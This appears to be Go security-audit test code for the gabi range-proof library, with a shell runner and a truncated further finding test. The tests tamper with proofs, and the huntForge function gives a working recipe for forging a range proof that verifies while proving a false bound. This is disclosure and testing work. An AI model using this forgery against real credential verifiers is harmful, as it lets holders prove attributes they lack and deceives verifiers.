		n := fmt.Sprintf(" (json %v)", viaJSON)
		huntProveVerify(t, "m=b ge"+n, cred, ctx, nil, map[int][]*rangeproof.Statement{1: {huntStmt(1, 1, 1000, nil)}}, viaJSON)
		huntProveVerify(t, "m=b le"+n, cred, ctx, nil, map[int][]*rangeproof.Statement{1: {huntStmt(-1, 1, 1000, nil)}}, viaJSON)
		huntProveVerify(t, "m=b ge table"+n, cred, ctx, nil, map[int][]*rangeproof.Statement{1: {huntStmt(1, 1, 1000, huntTable)}}, viaJSON)
		huntProveVerify(t, "m=0 ge 0"+n, cred, ctx, nil, map[int][]*rangeproof.Statement{2: {huntStmt(1, 1, 0, nil)}}, viaJSON)
		huntProveVerify(t, "m=0 le 0"+n, cred, ctx, nil, map[int][]*rangeproof.Statement{2: {huntStmt(-1, 1, 0, nil)}}, viaJSON)
		huntProveVerify(t, "m=0 le 5 table"+n, cred, ctx, nil, map[int][]*rangeproof.Statement{2: {huntStmt(-1, 1, 5, huntTable)}}, viaJSON)
		huntProveVerify(t, "bound 0"+n, cred, ctx, nil, map[int][]*rangeproof.Statement{1: {huntStmt(1, 1, 0, nil)}}, viaJSON)
		huntProveVerify(t, "factor 3 ge"+n, cred, ctx, []int{2}, map[int][]*rangeproof.Statement{1: {huntStmt(1, 3, 2999, nil)}}, viaJSON)
		huntProveVerify(t, "factor 3 le"+n, cred, ctx, []int{2}, map[int][]*rangeproof.Statement{1: {huntStmt(-1, 3, 3001, nil)}}, viaJSON)
		huntProveVerify(t, "factor 0"+n, cred, ctx, []int{2}, map[int][]*rangeproof.Statement{1: {huntStmt(1, 0, 0, nil)}}, viaJSON)
		huntProveVerify(t, "max ge max-5"+n, cred, ctx, nil, map[int][]*rangeproof.Statement{3: {maxm5}}, viaJSON)
		huntProveVerify(t, "max ge max-5 table"+n, cred, ctx, nil, map[int][]*rangeproof.Statement{3: {maxm5t}}, viaJSON)
		huntProveVerify(t, "max le max"+n, cred, ctx, nil, map[int][]*rangeproof.Statement{3: {maxeq}}, viaJSON)
		huntProveVerify(t, "max ge 0"+n, cred, ctx, nil, map[int][]*rangeproof.Statement{3: {max0}}, viaJSON)
		huntProveVerify(t, "many"+n, cred, ctx, []int{2}, map[int][]*rangeproof.Statement{
			1: {huntStmt(1, 1, 990, nil), huntStmt(-1, 1, 1010, huntTable), huntStmt(1, 1, 1000, huntTable), huntStmt(1, 2, 1999, nil)},
			3: {maxm5, maxeq, maxm5t},
			4: {huntStmt(1, 1, 20000101, nil), huntStmt(-1, 1, 20991231, nil), huntStmt(1, 1, 20250000, huntTable)},
		}, viaJSON)
		huntProveVerify(t, "empty list"+n, cred, ctx, []int{2}, map[int][]*rangeproof.Statement{1: {}}, viaJSON)
		huntProveVerify(t, "empty map"+n, cred, ctx, []int{2}, map[int][]*rangeproof.Statement{}, viaJSON)
	}
	// negative bound, in memory only (JSON known not to work)
	huntProveVerify(t, "negative bound", cred, ctx, nil, map[int][]*rangeproof.Statement{2: {huntStmt(1, 1, -5, nil)}}, false)
	huntProveVerify(t, "negative bound table", cred, ctx, nil, map[int][]*rangeproof.Statement{2: {huntStmt(1, 1, -5, huntTable)}}, false)
}

// An attribute longer than Lm bits is signed and shown as its hash; the range proof is computed over the value itself.
func TestHuntRangeLongAttribute(t *testing.T) {
	long := new(big.Int).Lsh(big.NewInt(1), 300)
	long.Add(long, big.NewInt(12345))
	cred, ctx := huntCred(t, []*big.Int{big.NewInt(1000), long})
	bound := new(big.Int).Sub(long, big.NewInt(5))
	huntProveVerify(t, "long attribute >= itself-5", cred, ctx, nil,
		map[int][]*rangeproof.Statement{2: {{Sign: 1, Factor: 1, Bound: bound}}}, false)
	// the statement about what is actually signed (the hash)
	h := common.IntHashSha256(long.Bytes())
	huntProveVerify(t, "long attribute: its hash >= hash-5", cred, ctx, nil,
		map[int][]*rangeproof.Statement{2: {{Sign: 1, Factor: 1, Bound: new(big.Int).Sub(h, big.NewInt(5))}}}, false)
}

// --- tampering ---------------------------------------------------------------------------------------

func huntFreshProof(t *testing.T) (*ProofD, *big.Int, *big.Int) {
	attrs := []*big.Int{big.NewInt(1000), big.NewInt(17), big.NewInt(2000), big.NewInt(20250101)}
	cred, ctx := huntCred(t, attrs)
	nonce, _ := common.RandomBigInt(testPubK1.Params.Lstatzk)
	proof, err := cred.CreateDisclosureProof([]int{4}, map[int][]*rangeproof.Statement{
		1: {huntStmt(1, 1, 990, nil), huntStmt(-1, 1, 1010, huntTable)},
		3: {huntStmt(1, 1, 1500, nil)},
	}, false, ctx, nonce)
	if err != nil {
		t.Fatal(err)
	}
	if !proof.Verify(testPubK1, ctx, nonce, false) {
		t.Fatal("fresh proof does not verify")
	}
	return proof, ctx, nonce
}

func TestHuntRangeTamperSoundness(t *testing.T) {
	proof, ctx, nonce := huntFreshProof(t)
	base, err := json.Marshal(proof)
	if err != nil {
		t.Fatal(err)
	}
	type mut struct {
		name string
		f    func(p *ProofD)
	}
	rp := func(p *ProofD, i, j int) *rangeproof.Proof { return p.RangeProofs[i][j] }
	muts := []mut{
		{"k raised", func(p *ProofD) { rp(p, 1, 0).K = big.NewInt(1001) }},
		{"k lowered", func(p *ProofD) { rp(p, 1, 0).K = big.NewInt(5) }},
		{"k zero", func(p *ProofD) { rp(p, 1, 0).K = big.NewInt(0) }},
		{"k negative", func(p *ProofD) { rp(p, 1, 0).K = big.NewInt(-990) }},
		{"k huge", func(p *ProofD) { rp(p, 1, 0).K = new(big.Int).Lsh(big.NewInt(1), 319) }},
		{"k too huge", func(p *ProofD) { rp(p, 1, 0).K = new(big.Int).Lsh(big.NewInt(1), 100000) }},
		{"k nil", func(p *ProofD) { rp(p, 1, 0).K = nil }},
		{"sign flipped", func(p *ProofD) { rp(p, 1, 0).Sign = -1 }},
		{"sign 0", func(p *ProofD) { rp(p, 1, 0).Sign = 0 }},
		{"sign 2", func(p *ProofD) { rp(p, 1, 0).Sign = 2 }},
		{"a 0", func(p *ProofD) { rp(p, 1, 0).A = 0 }},
		{"a 2", func(p *ProofD) { rp(p, 1, 0).A = 2 }},
		{"a maxuint", func(p *ProofD) { rp(p, 1, 0).A = ^uint(0) }},
		{"a 1<<63", func(p *ProofD) { rp(p, 1, 0).A = 1 << 63 }},
		{"three squares a 1", func(p *ProofD) { rp(p, 1, 1).A = 1 }},
		{"three squares a 8", func(p *ProofD) { rp(p, 1, 1).A = 8 }},
		{"ld 0", func(p *ProofD) { rp(p, 1, 0).Ld = 0 }},
		{"ld 257", func(p *ProofD) { rp(p, 1, 0).Ld = 257 }},
		{"ld maxuint", func(p *ProofD) { rp(p, 1, 0).Ld = ^uint(0) }},
		{"moved to other hidden attribute", func(p *ProofD) {
			p.RangeProofs[2] = p.RangeProofs[1]
			delete(p.RangeProofs, 1)
		}},
		{"copied to other hidden attribute", func(p *ProofD) { p.RangeProofs[2] = p.RangeProofs[1] }},
		{"swapped between attributes", func(p *ProofD) { p.RangeProofs[1], p.RangeProofs[3] = p.RangeProofs[3], p.RangeProofs[1] }},
		{"to secret key", func(p *ProofD) { p.RangeProofs[0] = p.RangeProofs[1] }},
		{"to disclosed", func(p *ProofD) { p.RangeProofs[4] = p.RangeProofs[1] }},
		{"to index outside key", func(p *ProofD) { p.RangeProofs[6] = p.RangeProofs[1] }},
		{"to negative index", func(p *ProofD) { p.RangeProofs[-1] = p.RangeProofs[1] }},
		{"duplicated in list", func(p *ProofD) { p.RangeProofs[1] = append(p.RangeProofs[1], p.RangeProofs[1][0]) }},
		{"order in list swapped", func(p *ProofD) { p.RangeProofs[1][0], p.RangeProofs[1][1] = p.RangeProofs[1][1], p.RangeProofs[1][0] }},
		{"one removed", func(p *ProofD) { p.RangeProofs[1] = p.RangeProofs[1][:1] }},
		{"index removed", func(p *ProofD) { delete(p.RangeProofs, 3) }},
		{"all removed", func(p *ProofD) { p.RangeProofs = nil }},
		{"nil proof in list", func(p *ProofD) { p.RangeProofs[1][0] = nil }},
		{"nil list", func(p *ProofD) { p.RangeProofs[1] = nil }},
		{"C missing", func(p *ProofD) { rp(p, 1, 0).Cs = rp(p, 1, 0).Cs[:3] }},
		{"C extra", func(p *ProofD) { rp(p, 1, 0).Cs = append(rp(p, 1, 0).Cs, big.NewInt(1)) }},
		{"C extra on three", func(p *ProofD) { rp(p, 1, 1).Cs = append(rp(p, 1, 1).Cs, big.NewInt(1)) }},
		{"Cs empty", func(p *ProofD) { rp(p, 1, 0).Cs = nil }},
		{"C nil", func(p *ProofD) { rp(p, 1, 0).Cs[2] = nil }},
		{"C zero", func(p *ProofD) { rp(p, 1, 0).Cs[2] = big.NewInt(0) }},
		{"C one", func(p *ProofD) { rp(p, 1, 0).Cs[2] = big.NewInt(1) }},
		{"C is N", func(p *ProofD) { rp(p, 1, 0).Cs[2] = new(big.Int).Set(testPubK1.N) }},
		{"C plus N", func(p *ProofD) { rp(p, 1, 0).Cs[2] = new(big.Int).Add(rp(p, 1, 0).Cs[2], testPubK1.N) }},
		{"C negative", func(p *ProofD) { rp(p, 1, 0).Cs[2] = new(big.Int).Neg(rp(p, 1, 0).Cs[2]) }},
		{"C negated mod N", func(p *ProofD) { rp(p, 1, 0).Cs[2] = new(big.Int).Sub(testPubK1.N, rp(p, 1, 0).Cs[2]) }},
		{"d missing", func(p *ProofD) { rp(p, 1, 0).DResponses = rp(p, 1, 0).DResponses[:3] }},
		{"d nil", func(p *ProofD) { rp(p, 1, 0).DResponses[0] = nil }},
		{"d negated", func(p *ProofD) { rp(p, 1, 0).DResponses[0] = new(big.Int).Neg(rp(p, 1, 0).DResponses[0]) }},
		{"ds empty", func(p *ProofD) { rp(p, 1, 0).DResponses = nil }},
		{"v missing", func(p *ProofD) { rp(p, 1, 0).VResponses = rp(p, 1, 0).VResponses[:3] }},
		{"v nil", func(p *ProofD) { rp(p, 1, 0).VResponses[3] = nil }},
		{"v extra", func(p *ProofD) { rp(p, 1, 0).VResponses = append(rp(p, 1, 0).VResponses, big.NewInt(1)) }},
		{"v5 nil", func(p *ProofD) { rp(p, 1, 0).V5Response = nil }},
		{"v5 huge", func(p *ProofD) { rp(p, 1, 0).V5Response = new(big.Int).Lsh(big.NewInt(1), 1<<22) }},
		{"d huge", func(p *ProofD) { rp(p, 1, 0).DResponses[1] = new(big.Int).Lsh(big.NewInt(1), 1<<22) }},
		{"v huge", func(p *ProofD) { rp(p, 1, 0).VResponses[1] = new(big.Int).Lsh(big.NewInt(1), 1<<22) }},
		{"all four to three", func(p *ProofD) {
			q := rp(p, 1, 0)
			q.Cs, q.DResponses, q.VResponses, q.A = q.Cs[:3], q.DResponses[:3], q.VResponses[:3], 4
		}},
		{"a response of the attribute removed", func(p *ProofD) { delete(p.AResponses, 1) }},
		{"a response of the attribute nil", func(p *ProofD) { p.AResponses[1] = nil }},
		{"attribute disclosed as well", func(p *ProofD) { p.ADisclosed[1] = big.NewInt(1000) }},
		{"attribute disclosed instead", func(p *ProofD) { delete(p.AResponses, 1); p.ADisclosed[1] = big.NewInt(1000) }},
	}
	for _, m := range muts {
		p := &ProofD{}
		if err := json.Unmarshal(base, p); err != nil {
			t.Fatal(err)
		}
		huntWatchdog(t, 30*time.Second, m.name, func() {
			m.f(p)
			if p.Verify(testPubK1, ctx, nonce, false) {
				t.Errorf("UNSOUND: tampered proof verifies: %s", m.name)
			}
			// and once more on the same object, and through JSON if it can be encoded
			if p.Verify(testPubK1, ctx, nonce, false) {
				t.Errorf("UNSOUND: tampered proof verifies the second time: %s", m.name)
			}
			bts, err := json.Marshal(p)
			if err != nil {
				return
			}
			q := &ProofD{}
			if err = json.Unmarshal(bts, q); err != nil {
				return
			}
			if q.Verify(testPubK1, ctx, nonce, false) {
				t.Errorf("UNSOUND: tampered proof verifies after JSON: %s", m.name)
			}
			// in a proof list as well
			if (ProofList{q}).Verify([]*gabikeys.PublicKey{testPubK1}, ctx, nonce, false, nil) {
				t.Errorf("UNSOUND: tampered proof verifies in a ProofList: %s", m.name)
			}
		})
	}
}

// raw JSON manipulations
func TestHuntRangeTamperJSON(t *testing.T) {
	proof, ctx, nonce := huntFreshProof(t)
	base, err := json.Marshal(proof)
	if err != nil {
		t.Fatal(err)
	}
	var generic map[string]any
	if err = json.Unmarshal(base, &generic); err != nil {
		t.Fatal(err)
	}
	variants := map[string]func(m map[string]any){
		"rangeproofs null":         func(m map[string]any) { m["rangeproofs"] = nil },
		"rangeproofs empty":        func(m map[string]any) { m["rangeproofs"] = map[string]any{} },
		"rangeproofs list null":    func(m map[string]any) { m["rangeproofs"].(map[string]any)["1"] = nil },
		"rangeproofs list empty":   func(m map[string]any) { m["rangeproofs"].(map[string]any)["1"] = []any{} },
		"rangeproofs entry null":   func(m map[string]any) { m["rangeproofs"].(map[string]any)["1"] = []any{nil} },
		"rangeproofs entry empty":  func(m map[string]any) { m["rangeproofs"].(map[string]any)["1"] = []any{map[string]any{}} },
		"rangeproofs entry only k": func(m map[string]any) { m["rangeproofs"].(map[string]any)["1"] = []any{map[string]any{"k": 5}} },
		"rangeproofs entry nulls": func(m map[string]any) {
			m["rangeproofs"].(map[string]any)["1"] = []any{map[string]any{"k": 5, "a": 1, "sign": 1, "l_d": 128, "Cs": []any{nil, nil, nil, nil}, "ds": []any{nil, nil, nil, nil}, "vs": []any{nil, nil, nil, nil}, "v5": nil}}
		},
		"rangeproofs entry no lists": func(m map[string]any) {
			m["rangeproofs"].(map[string]any)["1"] = []any{map[string]any{"k": 5, "a": 1, "sign": 1, "l_d": 128, "v5": 1}}
		},
		"rangeproofs entry numbers": func(m map[string]any) {
			m["rangeproofs"].(map[string]any)["1"] = []any{map[string]any{"k": 5, "a": 1, "sign": 1, "l_d": 128, "Cs": []any{1, 2, 3, 4}, "ds": []any{1, 2, 3, 4}, "vs": []any{1, 2, 3, 4}, "v5": 1}}
		},
		"rangeproofs 3 entry numbers": func(m map[string]any) {
			m["rangeproofs"].(map[string]any)["1"] = []any{map[string]any{"k": 5, "a": 4, "sign": -1, "l_d": 0, "Cs": []any{1, 2, 3}, "ds": []any{1, 2, 3}, "vs": []any{1, 2, 3}, "v5": 1}}
		},
		"rangeproofs key +1":         func(m map[string]any) { r := m["rangeproofs"].(map[string]any); r["+1"] = r["3"] },
		"rangeproofs key 01":         func(m map[string]any) { r := m["rangeproofs"].(map[string]any); r["01"] = r["3"] },
		"rangeproofs key 0":          func(m map[string]any) { r := m["rangeproofs"].(map[string]any); r["0"] = r["3"] },
		"rangeproofs key 2":          func(m map[string]any) { r := m["rangeproofs"].(map[string]any); r["2"] = r["3"] },
		"rangeproofs key 5":          func(m map[string]any) { r := m["rangeproofs"].(map[string]any); r["5"] = r["3"] },
		"rangeproofs key 99":         func(m map[string]any) { r := m["rangeproofs"].(map[string]any); r["99"] = r["3"] },
		"rangeproofs key -3":         func(m map[string]any) { r := m["rangeproofs"].(map[string]any); r["-3"] = r["3"] },
		"a_responses null":           func(m map[string]any) { m["a_responses"] = nil },
		"a_responses without 1":      func(m map[string]any) { delete(m["a_responses"].(map[string]any), "1") },
		"a_responses 1 null":         func(m map[string]any) { m["a_responses"].(map[string]any)["1"] = nil },
		"a_disclosed null":           func(m map[string]any) { m["a_disclosed"] = nil },
		"c null":                     func(m map[string]any) { m["c"] = nil },
		"unknown key in range proof": func(m map[string]any) { m["rangeproofs"].(map[string]any)["1"].([]any)[0].(map[string]any)["zz"] = 1 },
		"m in range proof": func(m map[string]any) {
			m["rangeproofs"].(map[string]any)["1"].([]any)[0].(map[string]any)["MResponse"] = 1
		},
	}
	mustStillVerify := map[string]bool{"unknown key in range proof": true, "m in range proof": true, "a_disclosed null": false}
	for name, f := range variants {
		var m map[string]any
		_ = json.Unmarshal(base, &m)
		huntWatchdog(t, 30*time.Second, name, func() {
			f(m)
			bts, _ := json.Marshal(m)
			p := &ProofD{}
			if err := json.Unmarshal(bts, p); err != nil {
				t.Logf("%s: not decodable: %v", name, err)
				return
			}
			ok := p.Verify(testPubK1, ctx, nonce, false)
			if ok && !mustStillVerify[name] {
				// which statements does it carry now?
				n := 0
				for _, l := range p.RangeProofs {
					n += len(l)
				}
				if n != 3 || len(p.RangeProofs[1]) != 2 || len(p.RangeProofs[3]) != 1 {
					t.Logf("%s: verifies, carrying %d range proofs (%d at 1, %d at 3)", name, n, len(p.RangeProofs[1]), len(p.RangeProofs[3]))
				}
				for idx, l := range p.RangeProofs {
					if idx != 1 && idx != 3 && len(l) > 0 {
						t.Errorf("UNSOUND %s: verifies with a range proof at index %d", name, idx)
					}
				}
			}
			if !ok && mustStillVerify[name] {
				t.Errorf("%s: harmless change, does not verify", name)
			}
			// the list form
			pl := ProofList{}
			if err := json.Unmarshal(append(append([]byte("["), bts...), ']'), &pl); err == nil && len(pl) == 1 {
				pl.Verify([]*gabikeys.PublicKey{testPubK1}, ctx, nonce, false, nil)
			}
		})
	}
}

// A verifier that asks for a statement and checks the proof list by the accessors: what does a proof say that
// carries its range proof at an index other than the one asked for, or none at all?
func TestHuntRangeFalseStatementRefused(t *testing.T) {
	attrs := []*big.Int{big.NewInt(1000), big.NewInt(17)}
	cred, ctx := huntCred(t, attrs)
	nonce, _ := common.RandomBigInt(testPubK1.Params.Lstatzk)
	for _, sp := range []rangeproof.SquareSplitter{nil, huntTable} {
		for _, s := range []*rangeproof.Statement{
			huntStmt(1, 1, 1001, sp), huntStmt(-1, 1, 999, sp), huntStmt(1, 1, 1<<40, sp), huntStmt(-1, 1, 0, sp), huntStmt(-1, 1, -1, sp),
		} {
			huntWatchdog(t, 60*time.Second, "false statement", func() {
				p, err := cred.CreateDisclosureProof(nil, map[int][]*rangeproof.Statement{1: {s}}, false, ctx, nonce)
				if err == nil && p.Verify(testPubK1, ctx, nonce, false) {
					t.Errorf("UNSOUND: false statement sign %d bound %v proven", s.Sign, s.Bound)
				}
			})
		}
	}
	// a huge bound must be refused quickly
	huge := new(big.Int).Lsh(big.NewInt(1), 100000)
	for _, sign := range []int{1, -1} {
		huntWatchdog(t, 20*time.Second, "huge bound", func() {
			_, err := cred.CreateDisclosureProof(nil, map[int][]*rangeproof.Statement{1: {{Sign: sign, Factor: 1, Bound: huge}}}, false, ctx, nonce)
			if err == nil {
				t.Errorf("huge bound sign %d: no error", sign)
			}
		})
	}
}

// builder misuse by what a verifier may request
func TestHuntRangeBuilderOddRequests(t *testing.T) {
	attrs := []*big.Int{big.NewInt(1000), big.NewInt(17)}
	cred, ctx := huntCred(t, attrs)
	nonce, _ := common.RandomBigInt(testPubK1.Params.Lstatzk)
	reqs := map[string]map[int][]*rangeproof.Statement{
		"index 0":            {0: {huntStmt(1, 1, 0, nil)}},
		"index -1":           {-1: {huntStmt(1, 1, 0, nil)}},
		"index 3":            {3: {huntStmt(1, 1, 0, nil)}},
		"nil statement":      {1: {nil}},
		"nil bound":          {1: {{Sign: 1, Factor: 1}}},
		"sign 0":             {1: {{Sign: 0, Factor: 1, Bound: big.NewInt(1)}}},
		"factor maxuint":     {1: {{Sign: 1, Factor: ^uint(0), Bound: big.NewInt(1)}}},
		"factor 2 table":     {1: {{Sign: 1, Factor: 2, Bound: big.NewInt(1), Splitter: huntTable}}},
		"table out of range": {1: {{Sign: 1, Factor: 1, Bound: big.NewInt(1), Splitter: rangeproof.GenerateSquaresTable(100)}}},
		"disclosed":          {2: {huntStmt(1, 1, 0, nil)}},
		"nil table":          {1: {{Sign: 1, Factor: 1, Bound: big.NewInt(999), Splitter: (*rangeproof.SquaresTable)(nil)}}},
		"empty table":        {1: {{Sign: 1, Factor: 1, Bound: big.NewInt(999), Splitter: &rangeproof.SquaresTable{}}}},
	}
	for name, r := range reqs {
		huntWatchdog(t, 60*time.Second, name, func() {
			p, err := cred.CreateDisclosureProof([]int{2}, r, false, ctx, nonce)
			if err == nil {
				t.Errorf("%s: no error (verifies: %v)", name, p.Verify(testPubK1, ctx, nonce, false))
			}
		})
	}
}

// --- forgery ------------------------------------------------------------------------------------------
//
// The challenge is the hash of context, A, Z, the reconstructed commitments of the range proofs, and the nonce.
// Neither the bound K (nor a, sign, l_d) nor the commitments C_i to the roots are hashed, and K sits in the exponent of
// the same base R_index for which the prover gives the responses m and d_i. The prover can therefore fix the
// "commitments" T first, learn the challenge c, and only then pick K, the roots d_i and the C_i such that the
// verification equations hold: with T_m = R^rho S^sigma, T_i = R^alpha_i and P = rho + a*r_m, take X = P div c and write
// P mod c = sum alpha_i d_i (base 2^65 digits); then K = a*m + X - sum d_i^2 verifies, and X is about 2^140 or more.
func huntForge(t *testing.T, cred *Credential, ctx, nonce *big.Int, index int, squares int, sign int64) *ProofD {
	pk := cred.Pk
	builder, err := cred.CreateDisclosureProofBuilder(nil, nil, false)
	if err != nil {
		t.Fatal(err)
	}
	randomizers, err := NewProofRandomizers()
	if err != nil {
		t.Fatal(err)
	}
	contrib, err := builder.Commit(randomizers)
	if err != nil {
		t.Fatal(err)
	}
	a := int64(1)
	if squares == 3 {
		a = 4
	}
	rm := builder.attrRandomizers[index]
	R := pk.R[index]

	// P = rho + a*r_m, about 2^(256+2*digit+10), such that X = P div c exceeds the sum of the squares of the digits
	digit := uint(256/squares + 1)
	P, _ := common.RandomBigInt(256 + 2*digit + 10)
	P.SetBit(P, int(256+2*digit+10), 1)
	// (sign -1: the exponent of R in the m-equation is c(a*m - K + sum d_i^2) + a*r_m + sum alpha_i d_i)
	rho := new(big.Int).Sub(P, new(big.Int).Mul(big.NewInt(sign*a), rm))
	s, _ := common.RandomBigInt(256) // sigma = -s
	Tm, err := common.ModPow(R, rho, pk.N)
	if err != nil {
		t.Fatal(err)
	}
	Sinv, err := common.ModPow(pk.S, new(big.Int).Neg(s), pk.N)
	if err != nil {
		t.Fatal(err)
	}
	Tm.Mul(Tm, Sinv).Mod(Tm, pk.N)

	alphas := make([]*big.Int, squares)
	list := append([]*big.Int{}, contrib...)
	list = append(list, Tm)
	for i := range alphas {
		alphas[i] = new(big.Int).Lsh(big.NewInt(1), uint(i)*digit)
		list = append(list, new(big.Int).Exp(R, alphas[i], pk.N))
	}

	c := createChallenge(ctx, nonce, list, false)
	proof := builder.CreateProof(c).(*ProofD)

	// now that c is known: the statement
	X, r := new(big.Int).DivMod(P, c, new(big.Int))
	mask := new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), digit), big.NewInt(1))
	ds := make([]*big.Int, squares)
	sumsq := new(big.Int)
	for i := range ds {
		if i == squares-1 {
			ds[i] = new(big.Int).Set(r)
		} else {
			ds[i] = new(big.Int).And(r, mask)
		}
		r.Rsh(r, digit)
		sumsq.Add(sumsq, new(big.Int).Mul(ds[i], ds[i]))
	}
	K := new(big.Int).Mul(big.NewInt(a), cred.Attributes[index])
	gap := new(big.Int).Sub(X, sumsq)
	if gap.Sign() <= 0 {
		t.Fatal("gap")
	}
	K.Add(K, gap.Mul(gap, big.NewInt(sign)))

	rp := &rangeproof.Proof{Ld: 128, Sign: int(sign), A: uint(a), K: K, V5Response: s}
	for i := range ds {
		rp.Cs = append(rp.Cs, new(big.Int).Exp(R, ds[i], pk.N))
		rp.DResponses = append(rp.DResponses, new(big.Int).Add(alphas[i], new(big.Int).Mul(c, ds[i])))
		rp.VResponses = append(rp.VResponses, big.NewInt(0))
	}
	proof.RangeProofs = map[int][]*rangeproof.Proof{index: {rp}}
	return proof
}

func TestHuntRangeForgedBound(t *testing.T) {
	// the signed attribute is 1000
	attrs := []*big.Int{big.NewInt(1000), big.NewInt(17)}
	cred, ctx := huntCred(t, attrs)
	claimed := new(big.Int).Lsh(big.NewInt(1), 100) // the verifier asks for attribute >= 2^100
	for _, squares := range []int{4, 3} {
		nonce, _ := common.RandomBigInt(testPubK1.Params.Lstatzk)
		proof := huntForge(t, cred, ctx, nonce, 1, squares, 1)
		proof = huntJSON(t, proof) // as it arrives at the verifier
		if proof == nil {
			t.Fatal("json")
		}
		ok := proof.Verify(testPubK1, ctx, nonce, false)
		okList := ProofList{proof}.Verify([]*gabikeys.PublicKey{testPubK1}, ctx, nonce, false, nil)
		rp := proof.RangeProofs[1][0]
		proves := rp.ProvesStatement(1, 1, claimed)
		typ, f, b := rp.ProvenStatement()
		t.Logf("%d squares: verifies %v (in list %v); reported statement: type %v, %d*m >= %v (%d bits); Proves(m >= 2^100): %v; signed m = %v",
			squares, ok, okList, typ, f, b, b.BitLen(), proves, cred.Attributes[1])
		if ok && okList && proves {
			t.Errorf("UNSOUND (%d squares): proof for the credential with attribute 1000 verifies and is reported to prove attribute >= 2^100", squares)
		}
	}
}

// The same for "less or equal": the forged bound lies about 2^140 below the attribute. For a small attribute it is
// negative (such a proof exists in memory only, negative numbers are not encoded); for a large attribute it passes JSON.
func TestHuntRangeForgedBoundLE(t *testing.T) {
	large := new(big.Int).Lsh(big.NewInt(1), 250)
	attrs := []*big.Int{big.NewInt(1000), large}
	cred, ctx := huntCred(t, attrs)
	for _, squares := range []int{4, 3} {
		nonce, _ := common.RandomBigInt(testPubK1.Params.Lstatzk)
		proof := huntForge(t, cred, ctx, nonce, 1, squares, -1)
		ok := proof.Verify(testPubK1, ctx, nonce, false)
		rp := proof.RangeProofs[1][0]
		proves := rp.ProvesStatement(-1, 1, big.NewInt(0))
		_, _, b := rp.ProvenStatement()
		t.Logf("%d squares, attribute 1000: verifies %v, reported m <= %v, Proves(m <= 0): %v", squares, ok, b, proves)
		if ok && proves {
			t.Errorf("UNSOUND (%d squares, in memory): attribute 1000, proof verifies and is reported to prove attribute <= 0", squares)
		}

		claimed := new(big.Int).Lsh(big.NewInt(1), 249) // half the attribute
		proof = huntJSON(t, huntForge(t, cred, ctx, nonce, 2, squares, -1))
		if proof == nil {
			t.Fatal("json")
		}
		ok = proof.Verify(testPubK1, ctx, nonce, false)
		rp = proof.RangeProofs[2][0]
		// the forged bound is 2^250 - 2^140 or so; what is demonstrated is a bound below the attribute
		proves = rp.ProvesStatement(-1, 1, new(big.Int).Sub(large, big.NewInt(1)))
		_, _, b = rp.ProvenStatement()
		t.Logf("%d squares, attribute 2^250: verifies %v, reported m <= 2^250 - %v, Proves(m <= 2^250-1): %v (m <= 2^249: %v)", squares, ok, new(big.Int).Sub(large, b), proves, rp.ProvesStatement(-1, 1, claimed))
		if ok && proves {
			t.Errorf("UNSOUND (%d squares, via JSON): attribute 2^250, proof verifies and is reported to prove attribute <= 2^250-1", squares)
		}
	}
}

// The statement "attribute >= 0" (bound 0, not negative) with the three-square splitter has k = 4*0-2 = -2 internally.
func TestHuntRangeTableBoundZeroJSON(t *testing.T) {
	cred, ctx := huntCred(t, []*big.Int{big.NewInt(1000), big.NewInt(0)})
	huntProveVerify(t, "m=1000 ge 0, table, in memory", cred, ctx, nil, map[int][]*rangeproof.Statement{1: {huntStmt(1, 1, 0, huntTable)}}, false)
	huntProveVerify(t, "m=1000 ge 0, table, via JSON", cred, ctx, nil, map[int][]*rangeproof.Statement{1: {huntStmt(1, 1, 0, huntTable)}}, true)
	huntProveVerify(t, "m=0 ge 0, table, via JSON", cred, ctx, nil, map[int][]*rangeproof.Statement{2: {huntStmt(1, 1, 0, huntTable)}}, true)
	huntProveVerify(t, "m=0 ge 0, four squares, via JSON", cred, ctx, nil, map[int][]*rangeproof.Statement{2: {huntStmt(1, 1, 0, nil)}}, true)
}

// l_d is not bound by anything: a proof with l_d raised by a third party still verifies (the statement is unchanged).
func TestHuntRangeLdMalleable(t *testing.T) {
	proof, ctx, nonce := huntFreshProof(t)
	proof.RangeProofs[1][0].Ld = 256
	proof.RangeProofs[1][1].Ld = 200
	if huntJSON(t, proof).Verify(testPubK1, ctx, nonce, false) {
		t.Logf("observation: proof with l_d changed from 128 to 256 (and 10 to 200) verifies")
	}
}
