#!/bin/sh
# usage: run.sh <file_test.go> <package dir relative to /repo> <TestName>  -- runs a finding demonstration against /repo via -overlay
set -e
export PATH=/opt/veriftools/go1.26.8/bin:$PATH GOTOOLCHAIN=local GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off
d=$(mktemp -d)
trap 'rm -rf "$d"' EXIT
f=$(readlink -f "$1")
printf '{"Replace":{"/repo/%s/zz_finding_test.go":"%s"}}' "$2" "$f" > "$d/ov.json"
[ "$2" = "." ] && printf '{"Replace":{"/repo/zz_finding_test.go":"%s"}}' "$f" > "$d/ov.json"
cd /repo && go test -overlay "$d/ov.json" -vet=off -count=1 ${VERBOSE:+-v} -timeout ${REPLAY_TIMEOUT:-120s} -run "$3" "./$2"
