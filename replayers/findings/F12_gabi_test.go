package gabi

import (
	"testing"

	"github.com/privacybydesign/gabi/big"
	"github.com/privacybydesign/gabi/internal/common"
	"github.com/privacybydesign/gabi/revocation"
	"github.com/stretchr/testify/require"
)

// F12: ConstructCredential panics instead of rejecting when the issuer's message lacks the proof, the signature or
// one of its numbers, an issuer share of a random-blind attribute, or the signed accumulator of the witness.
func f12try(t *testing.T, name string, f func() error) {
	defer func() {
		if r := recover(); r != nil {
			t.Errorf("%s: ConstructCredential panicked: %v", name, r)
		}
	}()
	if err := f(); err == nil {
		t.Errorf("%s: accepted", name)
	}
}

func TestF12(t *testing.T) {
	context, err := common.RandomBigInt(testPubK.Params.Lh)
	require.NoError(t, err)
	nonce1, err := common.RandomBigInt(testPubK.Params.Lstatzk)
	require.NoError(t, err)
	nonce2, err := common.RandomBigInt(testPubK.Params.Lstatzk)
	require.NoError(t, err)
	secret, err := common.RandomBigInt(testPubK.Params.Lm)
	require.NoError(t, err)
	issuer := NewIssuer(testPrivK, testPubK, context)

	fresh := func(blind []int) (*CredentialBuilder, *IssueSignatureMessage, []*big.Int) {
		b, err := NewCredentialBuilder(testPubK, context, secret, nonce2, nil, blind)
		require.NoError(t, err)
		commitMsg, err := b.CommitToSecretAndProve(nonce1)
		require.NoError(t, err)
